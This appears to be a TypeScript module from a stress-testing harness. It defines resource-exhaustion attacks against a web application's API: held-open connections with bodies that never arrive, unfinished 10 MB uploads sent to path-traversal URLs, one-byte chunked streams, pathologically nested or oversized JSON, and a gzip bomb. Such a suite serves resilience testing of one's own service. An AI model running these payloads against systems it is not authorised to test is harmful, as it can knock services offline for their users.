import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { type Attack, attack } from "./attack";
import { crowd, until } from "./crowd";
import { newMember } from "./member";
import type { Target } from "./target";

const MEGABYTE = Buffer.alloc(2 ** 20, " ");
const CONNECTIONS = 150;

/** Paths that one layer may treat as a page and another as the API. */
const CROOKED = [
  "/api/../login",
  "/api/v1/p%6fsts",
  "/api/./v1/posts",
  "/api/%2e%2e/login",
  "//api/v1/posts",
  "/api/v1//posts",
  "/api/%",
  "/api/auth/callback/credentials",
  "/api/inngest",
  "/api/cron/deliveries",
];

/** Declares a body of 10 MB for each path, sends 9 MB, and waits. */
async function unfinished(
  target: Target,
  signal: AbortSignal,
  headers: Record<string, string | number>,
  encode: (bytes: Buffer) => Buffer[],
): Promise<void> {
  const sockets = [];
  for (let n = 0; n < CONNECTIONS && !signal.aborted; n += 1) {
    const socket = target.open({ from: n });
    sockets.push(socket);
    socket.write(
      target.head(`POST ${CROOKED[n % CROOKED.length]}`, { "Content-Type": "application/json", ...headers }),
    );
    for (let megabyte = 0; megabyte < 9; megabyte += 1) for (const piece of encode(MEGABYTE)) socket.write(piece);
    if (n % 10 === 9) await sleep(50);
  }
  await crowd(1, signal, () => sleep(100));
  for (const socket of sockets) socket.destroy();
}

/** Announces a body on each of many connections from a few addresses, and sends as much of it as `begin`. */
function absent(count: number, addresses: number, begin: string) {
  return async (target: Target, signal: AbortSignal): Promise<void> => {
    const sockets = [];
    const announced = { "Content-Type": "application/json", "Content-Length": 1000 };
    for (let n = 0; n < count && !signal.aborted; n += 1) {
      const socket = target.open({ from: n % addresses });
      socket.write(target.head("POST /api/register", announced) + begin);
      sockets.push(socket);
      if (n % 100 === 99) await sleep(50);
    }
    await until(signal);
    for (const socket of sockets) socket.destroy();
  };
}

export const BODIES: Attack[] = [
  attack({
    name: "bodies-absent",
    description: "a body announced on 5,000 connections from 20 addresses, of which nothing comes",
    run: absent(5000, 20, ""),
  }),
  attack({
    name: "bodies-begun",
    description: "the same, of which one byte comes",
    run: absent(5000, 20, "{"),
  }),
  attack({
    name: "bodies-announced",
    description: `10 MB announced at crooked paths on ${CONNECTIONS} connections, sent but for the last, and left unfinished`,
    run: (target, signal) => unfinished(target, signal, { "Content-Length": 10 * 2 ** 20 }, (bytes) => [bytes]),
  }),
  attack({
    name: "bodies-chunked",
    description: "the same in chunks, of no announced length",
    run: (target, signal) =>
      unfinished(target, signal, { "Transfer-Encoding": "chunked" }, (bytes) => [
        Buffer.from("100000\r\n"),
        bytes,
        Buffer.from("\r\n"),
      ]),
  }),
  attack({
    name: "bodies-in-crumbs",
    description: "bodies in chunks of one byte, as many as fit, on 40 connections",
    prepare: newMember,
    run: (target, signal, { key }) =>
      crowd(40, signal, async (client) => {
        const socket = target.open({ from: client });
        socket.write(
          target.head("POST /api/v1/posts", {
            "Content-Type": "application/json",
            Authorization: `Bearer ${key}`,
            "Transfer-Encoding": "chunked",
          }),
        );
        for (let n = 0; n < 25 && !signal.aborted && socket.writable; n += 1) {
          socket.write("1\r\n \r\n".repeat(10_000));
          await sleep(20);
        }
        socket.destroy();
      }),
  }),
  attack({
    name: "bodies-deep",
    description: "256 KiB of brackets, of fields nobody knows, of one long string, of numbers without end, compressed",
    prepare: newMember,
    run: (target, signal, { key, cookie }) =>
      crowd(16, signal, (client, round) => {
        const { body, headers } = JSONS[(client + round) % JSONS.length]!;
        const asking = {
          method: "POST",
          body,
          headers: { "Content-Type": "application/json", ...headers },
          from: client,
        };
        return round % 2
          ? target.ask({ ...asking, path: "/api/v1/posts", key })
          : target.ask({ ...asking, path: "/api/coins/fairness/rotate", cookie });
      }),
  }),
];

const LIMIT = 256 * 1024;
const json = (text: string, headers: Record<string, string> = {}) => ({ body: Buffer.from(text), headers });
/** As many fields as a body can hold. */
const fields = (of: (n: number) => string) => {
  const parts: string[] = [];
  for (let n = 0, left = LIMIT - 2 - of(0).length; left > 0; n += 1, left -= of(n).length + 1) parts.push(of(n));
  return `{${parts.join(",")}}`;
};

const JSONS: { body: Buffer; headers: Record<string, string> }[] = [
  json("[".repeat(LIMIT)),
  json(`${'{"a":'.repeat(43_000)}1${"}".repeat(43_000)}`),
  json(`{"content":${"[".repeat(130_000)}${"]".repeat(130_000)}}`),
  json(fields((n) => `"${n}":0`)),
  json(fields((n) => `"\\u0000${n}":"\\ud800"`)),
  json(`{"media_ids":[${"0,".repeat(130_000)}0]}`),
  json(`{"media_ids":[${'"",'.repeat(85_000)}""]}`),
  json(`{"content":"${"\\ud83d\\ude00".repeat(21_000)}"}`),
  json(`{"content":"${" ".repeat(260_000)}x"}`),
  json(`{"content":${"9".repeat(260_000)}}`),
  json(" ".repeat(LIMIT)),
  { body: gzipSync(Buffer.alloc(50 * 2 ** 20, " ")), headers: { "Content-Encoding": "gzip" } },
];
